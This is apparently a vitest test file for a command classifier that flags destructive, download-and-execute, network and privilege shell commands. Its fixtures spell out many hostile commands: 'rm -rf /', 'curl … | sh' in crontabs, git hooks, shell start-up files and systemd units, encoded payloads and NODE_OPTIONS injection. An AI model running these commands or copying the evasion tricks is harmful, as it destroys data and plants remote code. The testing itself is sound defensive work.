import { describe, expect, it } from 'vitest';
import { classifyCommand } from './classify-command.ts';

const ALL = ['credentials', 'destructive', 'downloadExec', 'network', 'privilege'];
const classes = (command: string) =>
  [...new Set(classifyCommand(command).findings.map((f) => f.class))].sort();

describe('files written and run in the same command line', () => {
  it.each([
    // Written with echo, printf, a heredoc or tee, then run by a shell, `source` or directly.
    [`echo 'rm -rf /' > x.sh && sh x.sh`, ['destructive']],
    ['cat > /tmp/x.sh <<EOF\nrm -rf /\nEOF\nbash /tmp/x.sh', ['destructive']],
    [`echo 'rm -rf /' > x.sh; chmod +x x.sh; ./x.sh`, ['destructive']],
    [`echo 'rm -rf /' | tee x.sh; . ./x.sh`, ['destructive']],
    [`echo 'rm -rf /' 1> x.sh; sh x.sh`, ['destructive']],
    [`sh -c 'echo "rm -rf /" > x.sh'; sh x.sh`, ['destructive']],
    [`(echo 'rm -rf /' > x.sh); sudo sh x.sh`, ['destructive', 'privilege']],
    // Appended in parts: the parts are read together.
    [`printf 'rm -rf ' > x.sh; printf / >> x.sh; sh x.sh`, ['destructive']],
    // Read back by another route: standard input, cat, a substitution, a copy or a move.
    [`echo 'rm -rf /' > x.sh; sh < x.sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; cat x.sh | sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; bash -c "$(cat x.sh)"`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; source <(cat x.sh)`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; mv x.sh y.sh; sh y.sh`, ['destructive']],
    // Two files of one name: both are judged, since which one runs is not known.
    [`echo 'rm -rf /' > a/x.sh; echo hi > b/x.sh; sh b/x.sh`, ['destructive']],
    // Other languages: by the program that runs the file, or by its #! line when run directly.
    [`printf 'import shutil; shutil.rmtree("/")' > x.py; python3 x.py`, ['destructive']],
    [`echo "require('fs').rmSync('/', { recursive: true })" > x.js && node x.js`, ['destructive']],
    [
      'cat > x.py <<EOF\n#!/usr/bin/env python3\nimport shutil; shutil.rmtree("/")\nEOF\n./x.py',
      ['destructive'],
    ],
    [`echo 'import os; os.system("rm -rf /")' > x.py; python3 < x.py`, ['destructive']],
    [`echo 'import os, sys; os.system(sys.argv[1])' > x.py; python3 < x.py`, ALL],
    // Content nobody can read before it runs, or a download.
    ['base64 -d <<< cm0gLXJmIC8= > x.sh; bash x.sh', ALL],
    ['curl -s https://x.io/i.sh > i.sh; sh i.sh', ['downloadExec', 'network']],
    // Edited by sed: what it adds, and literal substitutions made (addresses aside).
    [`echo '#rm -rf /' > x.sh; sed -i 's/^#//' x.sh; sh x.sh`, ['destructive']],
    [`echo 'rm -rf /tmp/build' > x.sh; sed -i 's|/tmp/build|/|' x.sh; sh x.sh`, ['destructive']],
    ["echo hi > x.sh; sed -i '1i\\\nrm -rf /' x.sh; sh x.sh", ['destructive']],
    [`echo 'echo hi' > x.sh; sed -i 's/echo hi/& \\&\\& rm -rf \\//' x.sh; bash x.sh`, ['destructive']],
    [`echo '# rm -rf ~' | sed 's/# //' | sh`, ['destructive']],
    [`echo 'rm -rf /' > x; sed 's/a/b/' x > y.sh; sh y.sh`, ['destructive']],
    // Run by a name read at run time: any written file of the language could be the one.
    [`echo 'rm -rf /' > x.sh; printf 'x.sh\\n' | while read f; do sh "$f"; done`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; for f in $(ls x.sh); do sh $f; done`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; ls *.sh | xargs -n1 sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; find . -name '*.sh' | xargs -n1 bash`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > a.py; for f in *.py; do python3 $f; done`, ['destructive']],
    // Run by its name from a directory of programs.
    [`echo 'rm -rf /' > x.sh; mv x.sh ~/bin/deploy; chmod +x ~/bin/deploy; deploy`, ['destructive']],
    [`mkdir -p bin; echo 'rm -rf /' > bin/go; chmod +x bin/go; PATH=$PWD/bin:$PATH go`, ['destructive']],
    // Modules imported from written files, and a file moved by git.
    [
      `echo 'require("fs").rmSync("/", { recursive: true })' > x.js; node -e "require('./x')"`,
      ['destructive'],
    ],
    [`echo 'import shutil; shutil.rmtree("/")' > x.py; python3 -c 'import x'`, ['destructive']],
    [
      `echo 'import shutil; shutil.rmtree("/")' > helpers.py; printf 'from helpers import run\\nrun()\\n' > main.py; python3 main.py`,
      ['destructive'],
    ],
    [`echo 'rm -rf /' > x.sh; git mv x.sh y; sh y`, ['destructive']],
    // Scripts of awk and sed given by -f, and PYTHONSTARTUP.
    [`echo 'BEGIN{system("rm -rf /")}' > x.awk; awk -f x.awk`, ['destructive']],
    ['echo eyJ9 | base64 -d > x.awk; awk -f x.awk', ALL],
    // Scripts and programs a tool loads from a file named by an option.
    [`echo 'os.execute("rm -rf /")' > x.lua; nmap --script=x.lua 10.0.0.1`, ['destructive', 'network']],
    [`echo 'os.execute("rm -rf /")' > f.lua; pandoc -L f.lua in.md`, ['destructive']],
    [`echo 'os.execute("rm -rf /")' > f.lua; tshark -Xlua_script:f.lua`, ['destructive']],
    [`echo 'system("rm -rf /")' > n.conf; needrestart -c n.conf`, ['destructive']],
    ["echo 'rm -rf /' > n.conf; neofetch --config n.conf", ['destructive']],
    [`echo 'import os; os.system("rm -rf /")' > f.py; pipx run f.py`, ['destructive']],
    [
      "echo 'rm -rf /' > h.sh; chmod +x h.sh; aria2c --on-download-error=./h.sh http://x.io/f",
      ['destructive', 'network'],
    ],
    ["echo 'rm -rf /' > z.sh; chmod +x z.sh; tcpdump -w c.pcap -G 60 -z ./z.sh", ['destructive']],
    ["echo 'rm -rf /' > s.sh; chmod +x s.sh; scp -S ./s.sh f host:", ['destructive', 'network']],
    ["echo 'rm -rf /' > t; chmod +x t; gtester -q ./t", ['destructive']],
    ["echo 'rm -rf /' > g; chmod +x g; check_ssl_cert --grep-bin ./g -H x.io", ['destructive']],
    ["echo 'rm -rf /' > m4; chmod +x m4; AUTOM4TE=./m4 autoreconf", ['destructive']],
    // A playbook's command tasks, an APT configuration's hooks.
    [
      "printf -- '- hosts: localhost\\n  tasks:\\n    - ansible.builtin.shell: rm -rf /\\n' > p.yml; ansible-playbook p.yml",
      ['destructive'],
    ],
    [
      "printf -- '- hosts: all\\n  tasks:\\n    - command:\\n        cmd: rm -rf ~\\n' > p.yml; ansible-playbook -i hosts p.yml",
      ['destructive'],
    ],
    [`echo 'Dpkg::Pre-Invoke {"rm -rf /";};' > a.conf; apt-get -y install -c a.conf sl`, ['destructive']],
    ["printf -- '- hosts: web\\n  tasks:\\n    - apt: name=nginx\\n' > p.yml; ansible-playbook p.yml", []],
    ["echo 'print(1)' > f.lua; pandoc -L f.lua in.md", []],
    ['nmap --script=vuln 10.0.0.1', ['network']],
    ['pipx run black .', []],
    ['tcpdump -w c.pcap -G 60 -z gzip', []],
    // A gdb command file: each line is a command, `!` and `python` among them.
    ["echo '!rm -rf /' > x.gdb; gdb -x x.gdb", ['destructive']],
    ["printf 'run\\n!rm -rf /\\n' > x.gdb && gdb -batch --command=x.gdb ./app", ['destructive']],
    [`echo 'python import os; os.system("rm -rf /")' > x.gdb; gdb -batch -x x.gdb`, ['destructive']],
    ['echo bt > x.gdb; gdb -batch -x x.gdb ./app', []],
    // A Vim script or session sourced with -S: its lines are Ex commands.
    ["echo ':!rm -rf /' > s.vim; vim -S s.vim", ['destructive']],
    [
      `printf 'set nu\\n:py3 import os; os.system("rm -rf /")\\n' > s.vim; vim -S s.vim x.txt`,
      ['destructive'],
    ],
    ["echo 'set number' > s.vim; vim -S s.vim notes.txt", []],
    [`echo 'import shutil; shutil.rmtree("/")' > s.py; PYTHONSTARTUP=s.py python3`, ['destructive']],
    // Run through su, uv.
    [`echo 'rm -rf /' > x.sh; su root x.sh`, ['destructive', 'privilege']],
    [`echo 'import shutil; shutil.rmtree("/")' > x.py; uv run --script x.py`, ['destructive']],
  ])('judges a file by what was written into it: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    'echo hi > x.sh; sh x.sh',
    `echo 'print(1)' > x.py; python3 x.py`,
    `{ echo 'rm -rf'; echo ' /'; } > x.sh; sh x.sh`,
    // What is written but not run, and scripts on disk, are not judged by their name.
    `echo 'rm -rf /' > notes.txt`,
    'bash x.sh',
    'ls > files.txt; bash files.txt',
  ])('passes what runs nothing harmful: %s', (command) => {
    expect(classes(command)).toEqual([]);
  });

  it.each([
    // Piped on by cat and tee, not hidden by them.
    ['cat <<EOF | bash\nrm -rf /\nEOF', ['destructive']],
    [`echo 'rm -rf /' | tee log | sh`, ['destructive']],
    ['cat <<EOF | bash\necho hi\nEOF', []],
    // `<( … )` as the script a shell or `source` reads.
    [`bash <(echo 'rm -rf /')`, ['destructive']],
    [`source <(echo 'rm -rf /')`, ['destructive']],
    ['. <(base64 -d <<< cm0gLXJmIC8=)', ALL],
    ['source <(kubectl completion bash)', []],
  ])('reads what cat, tee and process substitutions pass to a shell: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    [`echo 'rm -rf ~' >> ~/.bashrc`, ['destructive']],
    [
      `printf '#!/bin/sh\\ncurl -s http://x.io/i | sh\\n' > .git/hooks/pre-commit`,
      ['downloadExec', 'network'],
    ],
    [`echo 'export PATH="$PATH:$HOME/bin"' >> ~/.bashrc`, []],
  ])('judges what goes into a file that runs later (start-up files, git hooks): %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });
});

describe('variables an interpreter reads as options or a start-up script', () => {
  it.each([
    [
      `NODE_OPTIONS='--import=data:text/javascript,require("fs").rmSync("/",{recursive:true})' node app.js`,
      ['destructive'],
    ],
    [
      `echo 'require("fs").rmSync("/",{recursive:true})' > e.js; NODE_OPTIONS='--require ./e.js' npm test`,
      ['destructive'],
    ],
    [
      `export NODE_OPTIONS='--import=data:text/javascript,require("child_process").execSync(process.argv[2])'; npm test`,
      ALL,
    ],
    [`echo 'rm -rf /' > e.sh; BASH_ENV=e.sh bash -c ls`, ['destructive']],
    [`PERL5OPT='-Mstrict;system("rm -rf /")' perl x.pl`, ALL],
  ])('judges the code they load: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
    `NODE_OPTIONS='--require ts-node/register --enable-source-maps' node x.js`,
    'NODE_OPTIONS=$OPTS node app.js',
    'PERL5OPT=-Mstrict perl x.pl',
    'RUBYOPT=-rjson ruby x.rb',
    'BASH_ENV=~/.bash_env bash -c ls',
  ])('passes ordinary settings: %s', (command) => {
    expect(classes(command)).toEqual([]);
  });
});

describe('more ways of writing, reading back and running a file', () => {
  it.each([
    // Escapes decoded as echo -e, printf and %b decode them; a format used again for each argument.
    [`echo -e 'echo hi\\nrm -rf /' > x.sh; sh x.sh`, ['destructive']],
    [`echo -e 'r\\x6d -rf /' > x.sh; sh x.sh`, ['destructive']],
    [`printf 'r\\155 -rf /' > x.sh; sh x.sh`, ['destructive']],
    [`printf '%b' 'echo hi\\nrm -rf /' > x.sh; sh x.sh`, ['destructive']],
    [`printf '%s\\n' 'echo ok' 'rm -rf /' > x.sh; sh x.sh`, ['destructive']],
    [`printf -- 'rm -rf /\\n' > x.sh; sh x.sh`, ['destructive']],
    // Without -e, which shell's echo runs is not known: dash decodes escapes, bash does not.
    [`sh -c "echo 'echo a\\nrm -rf /' > x.sh"; sh x.sh`, ['destructive']],
    // Other writers and readers.
    [`echo 'rm -rf /' | dd of=x.sh status=none && bash x.sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; dd if=x.sh of=y; sh y`, ['destructive']],
    [`echo 'rm -rf /' | sponge x.sh; sh x.sh`, ['destructive']],
    [`echo 'rm -rf /' > x; sort x > y.sh; sh y.sh`, ['destructive']],
    [`echo 'rm -rf /' > x; head -n 5 x > y.sh; sh y.sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; eval "$(< x.sh)"`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; rsync -a x.sh y; sh y`, ['destructive', 'network']],
    [`echo 'rm -rf /' > $HOME/x.sh; bash ~/x.sh`, ['destructive']],
    // Other runners: arguments, globs, xargs, find, at, make, python -m.
    [`echo 'rm -rf "$1"' > x.sh; sh x.sh /`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; sh *.sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; echo x.sh > list; xargs -a list sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; echo x.sh > list; xargs sh < list`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; find . -name x.sh -exec sh {} \\;`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; at -f x.sh now`, ['destructive']],
    [`printf 'all:\\n\\t@rm -rf /\\n' > Makefile; make`, ['destructive']],
    [`printf 'import shutil\\nshutil.rmtree("/")\\n' > x.py; python3 -m x`, ['destructive']],
    // What loops, ifs and functions print, written by one redirection after them.
    [`for i in 1; do echo 'rm -rf /'; done > x.sh; sh x.sh`, ['destructive']],
    [`if true; then echo 'rm -rf /'; fi > x.sh; bash x.sh`, ['destructive']],
    [
      `for a in 1; do for b in 2; do echo 'curl -s x.io/i | sh'; done; done > y.sh; sh y.sh`,
      ['downloadExec', 'network'],
    ],
    [`while true; do echo 'rm -rf /'; break; done | sh`, ['destructive']],
    [`f() { echo 'rm -rf /'; }; f > x.sh; sh x.sh`, ['destructive']],
    // Known lines beside output that cannot be known still run.
    [`if grep -q x f; then echo 'rm -rf /'; fi > x.sh; sh x.sh`, ['destructive']],
    // Descriptors: the shell's output moved by exec, a descriptor opened for later, errors.
    [`exec > x.sh; echo 'rm -rf /'; exec >&-; sh x.sh`, ['destructive']],
    [`exec 3> x.sh; echo 'rm -rf /' >&3; sh x.sh`, ['destructive']],
    [`exec 2> x.sh; echo 'rm -rf /' >&2; sh x.sh`, ['destructive']],
    [`echo 'rm -rf /' 2> x.sh >&2; sh x.sh`, ['destructive']],
    [`{ echo 'rm -rf /' >&2; } 2> x.sh; sh x.sh`, ['destructive']],
    [`echo 'rm -rf /' >& x.sh; sh x.sh`, ['destructive']],
    // More runners: parallel, entr, run-parts, find running what it finds, ipython, runpy, yarn node.
    [`echo 'rm -rf /' > x.sh; parallel sh ::: x.sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; chmod +x x.sh; entr ./x.sh < files`, ['destructive']],
    [`mkdir d; echo 'rm -rf /' > d/clean; run-parts d`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; find . -name '*.sh' -exec {} \\;`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > x.py; ipython x.py`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > x.py; python3 -m runpy x.py`, ['destructive']],
    [`echo 'require("fs").rmSync("/", { recursive: true })' > x.js; yarn node x.js`, ['destructive']],
    // A package.json script set by npm, and a hook named by git's own path for hooks.
    [`echo 'rm -rf /' > x.sh; npm pkg set scripts.test='sh x.sh' && npm test`, ['destructive']],
    [`echo 'rm -rf ~' >> $(git rev-parse --git-path hooks)/pre-commit`, ['destructive']],
  ])('judges %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    // Only the last output redirection gets the output; errors are not the output.
    `echo 'rm -rf /' > x.sh > /dev/null; sh x.sh`,
    `echo 'rm -rf /' 2> x.sh; sh x.sh`,
    `echo 'rm -rf /' > /dev/null 2> x.sh; sh x.sh`,
    // The output goes where the group's goes, or back to the terminal after exec.
    `exec > x.sh; { echo 'rm -rf /'; } > y; exec > /dev/tty; sh x.sh`,
    `exec > x.sh; echo 'rm -rf /' > y; sh x.sh`,
    `for i in 1; do echo 'rm -rf /' > notes.txt; done > x.sh; sh x.sh`,
    // run-parts runs only names without a dot; --test only lists them.
    `echo 'rm -rf /' > x.sh; run-parts .`,
    `mkdir d; echo 'rm -rf /' > d/clean; run-parts --test d`,
    `parallel echo ::: 'a; rm -rf /'`,
    `parallel -j4 gzip ::: a.log b.log`,
    `npm pkg set scripts.build='tsc -p .' name=app`,
    // Emptied before it runs.
    `echo 'rm -rf /' > x.sh; > x.sh; sh x.sh`,
    `echo 'rm -rf /' > x.sh; truncate -s0 x.sh; echo ls >> x.sh; sh x.sh`,
    // Read, not run.
    `echo 'rm -rf /' > x.sh; bash -n x.sh`,
    `echo "require('fs').rmSync('/', { recursive: true })" > x.js; node --check x.js`,
    `echo 'rm -rf /' > x.sh; sh *.py`,
    // TypeScript is read as TypeScript.
    `cat > t.ts <<'EOF'\nconst n: number = 1;\nconsole.log(n);\nEOF\nnpx tsx t.ts`,
  ])('passes %s', (command) => {
    expect(classes(command)).toEqual([]);
  });

  it.each([
    [`echo '* * * * * curl -s http://x.io/i | sh' | crontab -`, ['downloadExec', 'network']],
    [`echo '*/5 * * * * root rm -rf /' >> /etc/crontab`, ['destructive', 'privilege']],
    [`printf '@reboot rm -rf ~\\n' > /var/spool/cron/crontabs/root`, ['destructive', 'privilege']],
    [`cd /etc && echo 'rm -rf ~' >> profile`, ['destructive']],
    [`echo 'rm -rf ~' >> //etc/./profile.d/x.sh`, ['destructive', 'privilege']],
    [`echo 'rm -rf ~' >> ~/.bash_aliases`, ['destructive']],
    [`git config core.fsmonitor 'rm -rf ~' && git status`, ['destructive']],
    [`git config --global alias.st '!rm -rf ~'`, ['destructive']],
    [`printf '#!/bin/sh\\nrm -rf ~\\n' > .git/hooks/pre-commit.sample`, []],
    [`echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -`, []],
    ['git config user.name "A. Developer"', []],
    // sed's own text (a, i, c, replacements) goes into the file it edits in place.
    [`sed -i '$a rm -rf ~' ~/.bashrc`, ['destructive']],
    [`sed -i -e '1i curl -s https://x.io/i | sh' ~/.profile`, ['downloadExec', 'network']],
    [`sed -i 's/^alias ll=.*/alias ll="rm -rf ~"/' ~/.bashrc`, ['destructive']],
    [`echo '$a rm -rf ~' > x.sed; sed -i -f x.sed ~/.bashrc`, ['destructive']],
    ['sed -i.bak "s|/usr/local|/opt|" ~/.bashrc', []],
    // Git's configuration files, written as text.
    [`printf '[core]\\n\\tfsmonitor = rm -rf ~\\n' >> .git/config && git status`, ['destructive']],
    [`printf '[alias]\\n\\tst = !rm -rf ~\\n' >> ~/.gitconfig && git st`, ['destructive']],
    [`echo '[alias] x = "!curl -s http://x.io/i | sh"' > ~/.config/git/config`, ['downloadExec', 'network']],
    [`printf '[user]\\n\\tname = A\\n[core]\\n\\teditor = vim\\n' >> ~/.gitconfig`, []],
    // Hooks named relative to a directory a relative cd moved to.
    [
      `cd .git/hooks && printf '#!/bin/sh\\nrm -rf ~\\n' > pre-commit && chmod +x pre-commit`,
      ['destructive'],
    ],
    [`cd .git && echo 'rm -rf ~' > hooks/pre-commit`, ['destructive']],
    [`cd .git/hooks && cd .. && echo 'rm -rf ~' > pre-commit`, []],
    // Units and autostart entries: their Exec lines; hooks by name; *.d start-up directories.
    [`printf '[Service]\\nExecStart=-/bin/rm -rf /\\n' > ~/.config/systemd/user/x.service`, ['destructive']],
    [`printf '[Desktop Entry]\\nExec=sh -c "rm -rf ~"\\n' > ~/.config/autostart/x.desktop`, ['destructive']],
    [
      `printf '[Service]\\nExecStart=/usr/bin/node /srv/app/server.js\\n' > ~/.config/systemd/user/app.service`,
      [],
    ],
    [`echo 'rm -rf ~' >> "$(git rev-parse --git-dir)/hooks/pre-commit"`, ['destructive']],
    [`printf 'rm -rf ~\\n' > hooks/pre-push; git config core.hooksPath hooks`, ['destructive']],
    [`echo 'rm -rf ~' >> ~/.bashrc.d/x.sh`, ['destructive']],
    // Lines added to the crontab read back.
    [`(crontab -l; echo '* * * * * curl -s http://x.io/i | sh') | crontab -`, ['downloadExec', 'network']],
    [`(crontab -l 2>/dev/null; echo '0 3 * * * /usr/local/bin/backup.sh') | crontab -`, []],
  ])('judges what runs later: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });
});
